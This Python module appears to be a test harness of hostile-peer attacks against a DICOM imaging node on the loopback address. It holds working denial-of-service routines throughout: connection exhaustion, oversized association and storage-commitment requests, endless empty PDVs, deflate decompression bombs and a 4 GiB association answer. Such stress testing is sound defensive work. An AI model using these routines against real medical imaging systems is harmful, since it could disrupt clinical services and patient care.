"""The attacks of a hostile peer: each is a function that runs until its time is over.

They write bytes by hand and need nothing of the node's own code, so that an older one can be attacked by the same.

Over 300 lines: one attack after another, each independent of the others.
"""

from __future__ import annotations

import os
import socket
import struct
import threading
import time
import zlib
from collections.abc import Callable
from contextlib import suppress

HOST = "127.0.0.9"
"""Where attacks come from."""
ANSWERS_AT = "ATTACK_ANSWERS_AT"
"""The variable with the port on which it answers who calls it."""
ATTACKER = b"ATTACKER"
_DX, _EXPLICIT, _DEFLATED = b"1.2.840.10008.5.1.4.1.1.1.1", b"1.2.840.10008.1.2.1", b"1.2.840.10008.1.2.1.99"
_COMMITMENT = b"1.2.840.10008.1.20.1"
_COMMAND, _LAST = 1, 2
_ITEM = b"\xfe\xff\x00\xe0\x00\x00\x00\x00"

Attack = Callable[[int, float], None]


def connect(port: int, host: str = HOST) -> socket.socket:
    """A connection from the attacker's address."""
    return socket.create_connection(("127.0.0.1", port), 10, source_address=(host, 0))


def item(kind: int, value: bytes) -> bytes:
    """An item of an association PDU."""
    return struct.pack(">BBH", kind, 0, len(value)) + value


def context(number: int, abstract: bytes, *transfer: bytes) -> bytes:
    """A presentation context as proposed."""
    inner = item(0x30, abstract) + b"".join(item(0x40, one) for one in transfer)
    return item(0x20, bytes((number, 0, 0, 0)) + inner)


def request(*contexts: bytes, calling: bytes = ATTACKER) -> bytes:
    """An A-ASSOCIATE-RQ."""
    user = item(0x50, item(0x51, struct.pack(">L", 16384)) + item(0x52, b"1.2.3"))
    body = struct.pack(">HH", 1, 0) + b"NODE".ljust(16) + calling.ljust(16) + bytes(32)
    body += item(0x10, b"1.2.840.10008.3.1.1.1") + b"".join(contexts) + user
    return struct.pack(">BBL", 1, 0, len(body)) + body


def pdu(*pdvs: tuple[int, bytes]) -> bytes:
    """A P-DATA-TF PDU of context 1."""
    body = b"".join(struct.pack(">LBB", len(data) + 2, 1, control) + data for control, data in pdvs)
    return struct.pack(">BBL", 4, 0, len(body)) + body


def message(command: bytes, content: bytes) -> bytes:
    """A message with its data set."""
    size = 16000
    parts = [content[at : at + size] for at in range(0, len(content), size)] or [b""]
    data = b"".join(pdu((_LAST if number == len(parts) - 1 else 0, part)) for number, part in enumerate(parts))
    return pdu((_COMMAND | _LAST, command)) + data


def store(uid: bytes, content: bytes) -> bytes:
    """A C-STORE request of a DX."""
    return message(_command((0x0002, _DX), (0x0100, b"\x01\x00"), (0x0700, b"\0\0"), (0x1000, uid)), content)


def n_action(content: bytes) -> bytes:
    """A request of storage commitment."""
    return message(
        _command((0x0003, _COMMITMENT), (0x0100, b"\x30\x01"), (0x1001, _COMMITMENT + b".1"), (0x1008, b"\1\0")), content
    )


def image(uid: bytes, more: bytes = b"") -> bytes:
    """A small DX in Explicit VR Little Endian, `more` in front of its image description."""
    head = _ui(0x0008, 0x0016, _DX) + _ui(0x0008, 0x0018, uid) + struct.pack("<HH2sH", 8, 0x60, b"CS", 2) + b"DX"
    uids = _ui(0x0020, 0x000D, b"1.2.3") + _ui(0x0020, 0x000E, b"1.2.3.1")
    us = b"".join(struct.pack("<HH2sHH", 0x28, element, b"US", 2, value) for element, value in ((2, 1), (0x10, 64), (0x11, 64)))
    pixels = struct.pack("<HH2sHL", 0x7FE0, 0x10, b"OW", 0, 8192) + bytes(8192)
    return head + more + uids + us + pixels


def _command(*elements: tuple[int, bytes]) -> bytes:
    body = b""
    for number, value in sorted([*elements, (0x0110, b"\x07\x00"), (0x0800, b"\x01\x00")]):
        padded = value + b"\0" * (len(value) % 2)
        body += struct.pack("<HHL", 0, number, len(padded)) + padded
    return struct.pack("<HHLL", 0, 0, 4, len(body)) + body


def _ui(group: int, element: int, value: bytes) -> bytes:
    value += b"\0" * (len(value) % 2)
    return struct.pack("<HH2sH", group, element, b"UI", len(value)) + value


def _associated(port: int, *contexts: bytes) -> socket.socket:
    connection = connect(port)
    connection.sendall(request(*contexts))
    connection.recv(65536)
    return connection


def _until(ends_at: float, once: Callable[[], None]) -> None:
    while time.monotonic() < ends_at:
        with suppress(OSError):
            once()
            continue
        time.sleep(0.01)


def nothing(_port: int, ends_at: float) -> None:
    """No attack: what the honest sender's figures are without one."""
    time.sleep(max(0.0, ends_at - time.monotonic()))


def silent(port: int, ends_at: float) -> None:
    """72 connections that say nothing; each that is closed is made again."""
    held: list[socket.socket] = []
    while time.monotonic() < ends_at:
        for one in list(held):
            one.setblocking(False)
            with suppress(BlockingIOError):
                held.remove(one) if not one.recv(1) else None
        with suppress(OSError):
            while len(held) < 72:
                held.append(connect(port))
        time.sleep(0.05)


def syntaxes(port: int, ends_at: float) -> None:
    """An association request of 5,505 syntaxes, again and again."""
    names = [f"1.2.826.0.1.3680043.9.{number}".encode() for number in range(5505)]
    many = [context(2 * number + 1, _DX, *names[number::128]) for number in range(128)]

    def once() -> None:
        with connect(port) as connection:
            connection.sendall(request(*many))
            connection.recv(65536)

    _until(ends_at, once)


def some_syntaxes(port: int, ends_at: float) -> None:
    """A request just below 64 KiB, of some 4,000 short syntaxes, again and again."""
    many = [context(2 * number + 1, _DX, *(f"1.{number}.{one}".encode() for one in range(38))) for number in range(128)]

    def once() -> None:
        with connect(port) as connection:
            connection.sendall(request(*many))
            connection.recv(65536)

    _until(ends_at, once)


def names(port: int, ends_at: float) -> None:
    """Requests under ever new AE titles, with a called AE title that isn't the node's, so that each is refused."""
    number = 0

    def once() -> None:
        nonlocal number
        number += 1
        with connect(port) as connection:
            refused = request(context(1, _DX, _EXPLICIT), calling=f"X{number}".encode())
            connection.sendall(refused.replace(b"NODE".ljust(16), b"WRONG".ljust(16), 1))
            connection.recv(65536)

    _until(ends_at, once)


def large_actions(port: int, ends_at: float) -> None:
    """Requests of storage commitment of 15.5 MiB, five at a time, hanging up after each."""
    content = n_action(_ui(8, 0x1195, b"1.2.3") + struct.pack("<HH2sHL", 8, 0x1199, b"SQ", 0, 8 * 1_000_000) + _ITEM * 2_031_000)
    in_threads(5, lambda: _until(ends_at, lambda: _send(port, content)))


def pipelined_actions(port: int, ends_at: float) -> None:
    """Requests of storage commitment of nearly a megabyte, one after the other without waiting for a response."""
    reference = _ui(8, 0x1150, _DX) + _ui(8, 0x1155, b"1.2.3.4")
    items = (struct.pack("<HHL", 0xFFFE, 0xE000, len(reference)) + reference) * 9000
    content = n_action(_ui(8, 0x1195, b"1.2.3") + struct.pack("<HH2sHL", 8, 0x1199, b"SQ", 0, len(items)) + items)

    def once() -> None:
        with _associated(port, context(1, _COMMITMENT, _EXPLICIT)) as connection:
            for _ in range(50):
                connection.sendall(content)

    _until(ends_at, once)


def uids_of_bytes(port: int, ends_at: float) -> None:
    """Requests of storage commitment whose UIDs are 0xE9 throughout, as many as there is time for."""
    long = b"\xe9" * 60_000
    reference = _ui(8, 0x1150, long) + _ui(8, 0x1155, long)
    items = (struct.pack("<HHL", 0xFFFE, 0xE000, len(reference)) + reference) * 128
    content = n_action(_ui(8, 0x1195, b"1.2.3") + struct.pack("<HH2sHL", 8, 0x1199, b"SQ", 0, len(items)) + items)

    def once() -> None:
        with _associated(port, context(1, _COMMITMENT, _EXPLICIT)) as connection:
            connection.sendall(content)
            connection.recv(65536)

    _until(ends_at, once)


def empty_pieces(port: int, ends_at: float) -> None:
    """Four associations, each with a data set in endless PDVs of length zero."""
    pieces = pdu((0, b"")) * 2000

    def once() -> None:
        with _associated(port, context(1, _DX, _EXPLICIT)) as connection:
            connection.sendall(pdu((_COMMAND | _LAST, _command((0x0002, _DX), (0x0100, b"\1\0"), (0x1000, b"1.2.3")))))
            while time.monotonic() < ends_at:
                connection.sendall(pieces)

    in_threads(4, lambda: _until(ends_at, once))


def echoes(port: int, ends_at: float) -> None:
    """Eight associations, each with C-ECHO requests without a pause, whose responses are read and thrown away."""
    verification = b"1.2.840.10008.1.1"
    echo = _command((0x0002, verification), (0x0100, b"\x30\x00"))
    echo = pdu((_COMMAND | _LAST, echo[:-2] + b"\x01\x01"))  # there is no data set

    def once() -> None:
        with _associated(port, context(1, verification, _EXPLICIT)) as connection:
            while time.monotonic() < ends_at:
                connection.sendall(echo * 100)
                if not connection.recv(1 << 20):
                    return

    in_threads(8, lambda: _until(ends_at, once))


def associations(port: int, ends_at: float) -> None:
    """Associations that are asked for, accepted and dropped, one after the other, from eight threads."""

    def once() -> None:
        with _associated(port, *(context(2 * number + 1, _DX, _EXPLICIT) for number in range(100))):
            pass

    in_threads(8, lambda: _until(ends_at, once))


def invalid_uids(port: int, ends_at: float) -> None:
    """C-STORE requests whose SOP instance UID is none, without end."""

    def once() -> None:
        with _associated(port, context(1, _DX, _EXPLICIT)) as connection:
            while time.monotonic() < ends_at:
                connection.sendall(store(b"no UID", b"xx") * 50)
                connection.recv(65536)

    _until(ends_at, once)


def deflated_bomb(port: int, ends_at: float) -> None:
    """Ten images of 600 kB that inflate to 400 MiB of empty items, at once; then nothing."""
    for number in range(10):
        uid = f"1.2.66.{number}.{time.time_ns()}".encode()
        compressor = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
        before, _, after = image(uid, b"BOMB").partition(b"BOMB")
        parts = [compressor.compress(before + struct.pack("<HH2sHL", 8, 0x1140, b"SQ", 0, 0xFFFFFFFF))]
        parts += [compressor.compress(_ITEM * 131072) for _ in range(400)]
        parts += [compressor.compress(b"\xfe\xff\xdd\xe0\0\0\0\0" + after), compressor.flush()]
        _send_image(port, uid, b"".join(parts), _DEFLATED)
    nothing(port, ends_at)


def items_bomb(port: int, ends_at: float) -> None:
    """Ten images with 8 MiB of empty items inside a length, at once; then nothing."""
    for number in range(10):
        uid = f"1.2.67.{number}.{time.time_ns()}".encode()
        items = _ITEM * 2**20
        _send_image(port, uid, image(uid, struct.pack("<HH2sHL", 8, 0x1140, b"SQ", 0, len(items)) + items), _EXPLICIT)
    nothing(port, ends_at)


def large_answer(_port: int, ends_at: float) -> None:
    """A called peer that answers each association request with an A-ASSOCIATE-AC of 4 GiB, as fast as it is read."""
    with socket.create_server((HOST, int(os.environ[ANSWERS_AT]))) as server:
        server.settimeout(1)
        while time.monotonic() < ends_at:
            with suppress(OSError):
                connection, _ = server.accept()
                threading.Thread(target=_answer_without_end, args=(connection, ends_at), daemon=True).start()


def _answer_without_end(connection: socket.socket, ends_at: float) -> None:
    with suppress(OSError), connection:
        connection.recv(65536)
        connection.sendall(struct.pack(">BBL", 2, 0, 0xFFFFFFF0))
        while time.monotonic() < ends_at:
            connection.sendall(bytes(2**20))


def _send(port: int, content: bytes) -> None:
    with _associated(port, context(1, _COMMITMENT, _EXPLICIT)) as connection:
        connection.sendall(content)


def _send_image(port: int, uid: bytes, content: bytes, syntax: bytes) -> None:
    with suppress(OSError), _associated(port, context(1, _DX, syntax)) as connection:
        connection.sendall(store(uid, content))
        connection.recv(65536)


def in_threads(count: int, run: Callable[[], None]) -> None:
    """Run something several times at once."""
    threads = [threading.Thread(target=run) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


ATTACKS: dict[str, Attack] = {
    attack.__name__.replace("_", "-"): attack
    for attack in (
        *(nothing, silent, syntaxes, some_syntaxes, names, large_actions, pipelined_actions, uids_of_bytes),
        *(echoes, associations, empty_pieces, invalid_uids, deflated_bomb, items_bomb, large_answer),
    )
}
